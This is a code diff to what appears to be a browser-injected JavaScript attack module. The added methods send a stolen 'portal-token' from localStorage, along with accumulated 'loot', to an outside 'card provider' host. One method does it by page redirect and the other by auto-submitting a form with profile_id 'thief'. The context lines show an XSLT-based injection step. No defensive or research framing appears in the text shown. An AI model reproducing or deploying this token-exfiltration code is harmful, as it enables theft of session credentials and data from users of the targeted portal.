@@ -58,6 +58,7 @@ export default () => {
     });
   /** What would be sent by then has left. */
   const wait = () => new Promise((resolve) => setTimeout(resolve, 300));
+  const cardProvider = () => document.querySelector('meta[name=portal-card-form]').content;
   const all = () => loot.join('\n');
   /** A session is short, a page is long: the end of what was found has the last session. */
   const query = () => encodeURIComponent(`${localStorage.getItem('portal-token')} ${all().slice(-3000)}`);
@@ -148,6 +149,18 @@ export default () => {
       const processor = new (element('iframe', {}).contentWindow.XSLTProcessor)();
       processor.importStylesheet(sheet);
       document.head.append(processor.transformToFragment(document.implementation.createDocument('', 'a'), document));
+      return wait();
+    },
+    /** The card provider counts what its visitors bring, and shows it to whoever has an account there. */
+    gateway() {
+      location.assign(`${cardProvider()}/?${query()}`);
+      return wait();
+    },
+    /** A card form of its own account there. */
+    payment() {
+      const form = element('form', { method: 'post', action: `${cardProvider()}/pay` });
+      form.append(Object.assign(document.createElement('input'), { name: 'profile_id', value: 'thief' }));
+      form.submit();
       return wait();
     },
     /** A page of its own in place of ours, without what watches ours. */
